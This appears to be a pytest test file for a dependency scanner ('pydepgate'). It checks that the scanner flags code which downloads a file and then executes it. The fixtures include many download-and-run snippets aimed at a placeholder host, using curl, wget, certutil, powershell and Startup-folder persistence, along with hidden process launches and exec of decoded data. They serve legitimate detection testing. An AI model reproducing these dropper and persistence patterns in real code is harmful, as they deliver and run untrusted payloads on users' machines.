# ruff: noqa: E501
"""Which written file a process starts, and what is known of a file that is read again."""

from __future__ import annotations

from pathlib import Path

import pytest

from pydepgate.scanner import observe

_IMPORTS = """
import os, sys, subprocess, shutil, tempfile, zipfile, io, ctypes, threading, runpy, importlib, requests, aiofiles, base64
import urllib.request
from pathlib import Path
from concurrent.futures import ThreadPoolExecutor
URL = "https://server.invalid/x"
"""


def signals(code: str, folder: Path) -> set[str]:
    (folder / "module.py").write_text(_IMPORTS + code)
    return {signal.name for signal, _ in observe(folder).signals}


_STARTS = {
    "startfile": "p = os.environ['TEMP'] + '\\\\a.exe'\nurllib.request.urlretrieve(URL, p)\nos.startfile(p)",
    "handle": "with open('a.exe', 'wb') as f:\n    f.write(requests.get(URL).content)\nos.system('a.exe')",
    "chunks": "f = open('a', 'wb')\nfor c in requests.get(URL).iter_content(9):\n    f.write(c)\nos.system('./a &')",
    "pathlib": "p = Path.home() / 'a.py'\np.write_bytes(requests.get(URL).content)\nsubprocess.run(['python', str(p)])",
    "open-method": "p = Path('a.sh')\nwith p.open('wb') as f:\n    f.write(requests.get(URL).content)\nos.system(f'sh {p}')",
    "temporary": "f = tempfile.NamedTemporaryFile(suffix='.exe')\nf.write(requests.get(URL).content)\nos.startfile(f.name)",
    "mkstemp": "fd, p = tempfile.mkstemp()\nos.write(fd, requests.get(URL).content)\nsubprocess.Popen([p])",
    "fdopen": "fd, p = tempfile.mkstemp()\nwith os.fdopen(fd, 'wb') as f:\n    f.write(requests.get(URL).content)\nos.system(p)",
    "copyfileobj": "with urllib.request.urlopen(URL) as r, open('a.exe', 'wb') as f:\n    shutil.copyfileobj(r, f)\nos.system('a')\nos.system('start a.exe')",
    "moved": "urllib.request.urlretrieve(URL, 'a')\nshutil.move('a', 'b.exe')\nos.startfile('b.exe')",
    "parameters": "def get(url, to):\n    urllib.request.urlretrieve(url, to)\n    subprocess.Popen(to)",
    "before-definition": "def run():\n    get()\n    os.startfile(P)\ndef get():\n    urllib.request.urlretrieve(URL, P)\nP = 'a.exe'\nrun()",
    "attribute": "class A:\n    def __init__(self):\n        self.p = os.path.join(tempfile.gettempdir(), 'a.exe')\n    def run(self):\n        os.startfile(self.p)\n    def get(self):\n        urllib.request.urlretrieve(URL, self.p)",
    "global": "def get():\n    global p\n    p = 'a.exe'\n    urllib.request.urlretrieve(URL, p)\ndef run():\n    os.startfile(p)\nget()\nrun()",
    "async": "async def get():\n    async with aiofiles.open('a.exe', 'wb') as f:\n        await f.write(requests.get(URL).content)\n    os.startfile('a.exe')",
    "unpacked": "urllib.request.urlretrieve(URL, 'a.zip')\nzipfile.ZipFile('a.zip').extractall('a')\nos.startfile('a/b.exe')",
    "unpacked-memory": "zipfile.ZipFile(io.BytesIO(requests.get(URL).content)).extractall('a')\nsubprocess.Popen(os.path.join('a', 'b.exe'))",
    "curl": "os.system('curl -o /tmp/a https://server.invalid/a')\nos.system('chmod +x /tmp/a; /tmp/a')",
    "curl-list": "p = os.getenv('TEMP') + '\\\\a.exe'\nsubprocess.call(['curl', URL, '-o', p])\nos.startfile(p)",
    "wget": "os.system('wget https://server.invalid/dir/a.elf')\nos.system('./a.elf')",
    "certutil": "os.system('certutil -urlcache -f https://server.invalid/a.exe a.exe')\nos.system('a.exe')",
    "powershell": "subprocess.run(['powershell', '-c', 'iwr https://server.invalid/a -OutFile C:/a.exe'])\nos.startfile('C:\\\\a.exe')",
    "loaded": "urllib.request.urlretrieve(URL, 'a.dll')\nctypes.CDLL('a.dll')",
    "runpy": "urllib.request.urlretrieve(URL, 'a.py')\nrunpy.run_path('a.py')",
    "imported": "urllib.request.urlretrieve(URL, 'a.py')\nimportlib.import_module('a')",
    "thread": "urllib.request.urlretrieve(URL, 'a.exe')\nthreading.Thread(target=os.startfile, args=('a.exe',)).start()",
    "executor": "def run(p):\n    os.startfile(p)\nurllib.request.urlretrieve(URL, 'a.exe')\nThreadPoolExecutor().submit(run, 'a.exe')",
    "buffer": "b = io.BytesIO()\nb.write(requests.get(URL).content)\nopen('a.exe', 'wb').write(b.getvalue())\nos.startfile('a.exe')",
    "callback": "import ftplib\nftplib.FTP('ftp.example.com').retrbinary('RETR a', open('a.exe', 'wb').write)\nos.startfile('a.exe')",
    "autostart": "p = os.environ['APPDATA'] + '/Microsoft/Windows/Start Menu/Programs/Startup/a.exe'\nurllib.request.urlretrieve(URL, p)",
    "found-interpreter": "p = os.path.expanduser('~') + '/a.pyw'\nopen(p, 'w').write(requests.get(URL).text)\nsubprocess.Popen([shutil.which('pyw'), p])",
}


@pytest.mark.parametrize("code", _STARTS.values(), ids=_STARTS.keys())
def test_downloaded_file_is_seen_to_start(code: str, tmp_path: Path) -> None:
    assert {"flow.network-to-start", "start.constant-url"} <= signals(code, tmp_path) | (
        {"start.constant-url"} if "def get(url" in code or "ftplib" in code else set()
    )


_DOES_NOT_START = {
    "argument": "urllib.request.urlretrieve(URL, 'a.mp4')\nsubprocess.run(['ffmpeg', '-i', 'a.mp4'])",
    "other-file": "urllib.request.urlretrieve(URL, 'a.exe')\nos.startfile('b.exe')",
    "other-suffix": "urllib.request.urlretrieve(URL, 'a')\nos.system('a.sh')",
    "longer-name": "urllib.request.urlretrieve(URL, 'a.py')\nos.system('python data.py')",
    "compiled": "urllib.request.urlretrieve(URL, 'a.c')\nsubprocess.run(['gcc', '-o', 'a', 'a.c'])",
    "word": "urllib.request.urlretrieve(URL, 'config')\nsubprocess.run(['git', 'config', '--list'])",
    "module": "urllib.request.urlretrieve(URL, 'a.whl')\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'a.whl'])",
    "two-temporaries": "a = tempfile.mkdtemp()\nb = tempfile.mkdtemp()\nurllib.request.urlretrieve(URL, a + '/x')\nos.system(b + '/x')",
    "two-parameters": "def f(a, b):\n    urllib.request.urlretrieve(URL, a)\n    subprocess.run([b])",
}


@pytest.mark.parametrize("code", _DOES_NOT_START.values(), ids=_DOES_NOT_START.keys())
def test_file_that_does_not_start(code: str, tmp_path: Path) -> None:
    found = signals(code, tmp_path)
    assert "flow.network-to-file" in found
    assert "flow.network-to-start" not in found


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("urllib.request.urlretrieve(URL, 'a')\nexec(open('a').read())", "flow.network-to-exec"),
        ("Path('a').write_text(requests.get(URL).text)\nexec(Path('a').read_text())", "flow.network-to-exec"),
        ("open('a', 'wb').write(base64.b64decode('cHJpbnQoMSk='))\nexec(open('a').read())", "flow.decode-to-exec"),
        (
            "open('a.py', 'wb').write(base64.b64decode('cHJpbnQoMSk='))\nos.system('python a.py')",
            "flow.decode-to-start",
        ),
        (
            "f = open('a.py', 'w')\nf.write('import os\\n')\nf.write('os.getcwd()\\n')\nos.system('python a.py')",
            "flow.literal-to-start",
        ),
        ("shutil.copy(os.path.dirname(__file__) + '/d', 'a.exe')\nos.startfile('a.exe')", "flow.file-to-start"),
        ("open('a.exe', 'wb').write(requests.get(URL).content)\nos.chmod('a.exe', 0o755)", "file.made-executable"),
        ("subprocess.Popen(['a'], creationflags=subprocess.CREATE_NO_WINDOW)", "start.hidden"),
        ("subprocess.Popen(['a'], creationflags=0x08000000)", "start.hidden"),
        (
            "subprocess.Popen(['a'], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)",
            "start.detached",
        ),
        ("os.system('nohup a &')", "start.detached"),
        ("subprocess.Popen([os.environ['TEMP'] + '/a'])", "start.from-temp"),
    ],
)
def test_signal(code: str, expected: str, tmp_path: Path) -> None:
    assert expected in signals(code, tmp_path)


def test_structure_read_back_is_not_what_was_stored(tmp_path: Path) -> None:
    code = (
        "import json\nopen('a', 'w').write(json.dumps(requests.get(URL).json()))\nos.system(json.load(open('a'))['c'])"
    )
    assert "flow.network-to-process" not in signals(code, tmp_path)
